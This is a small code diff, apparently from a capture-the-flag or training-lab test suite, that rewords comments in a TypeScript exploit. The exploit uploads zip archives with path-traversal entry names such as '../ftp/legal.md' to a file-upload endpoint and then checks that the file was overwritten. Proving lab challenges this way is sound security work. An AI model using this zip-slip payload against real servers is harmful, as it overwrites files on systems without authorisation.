@@ -9,17 +9,17 @@ function send(attacker: Attacker, bytes: Uint8Array<ArrayBuffer>, name = 'invoic
   form.append('file', new Blob([bytes], { type: 'application/zip' }), name)
   return attacker.post('/file-upload', form)
 }
-/** Attaches an archive of these files to a complaint. */
+/** Attaches an archive with these files to a complaint. */
 const attach =
   (files: PackedFiles, name?: string): Attack =>
   (attacker) =>
     send(attacker, zipArchive(files), name)
-/** An archive with one entry of this name. */
+/** Attaches an archive with one entry of this name. */
 const entry = (name: string) => attach({ [name]: MINE })
 
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
-    // Where an archive is unpacked is found by climbing one folder after the other.
+    // The number of parent folders is found by trying one more each time.
     await entry('../ftp/legal.md')(attacker)
     await entry('../../ftp/legal.md')(attacker)
     await attacker.get('/ftp/legal.md')
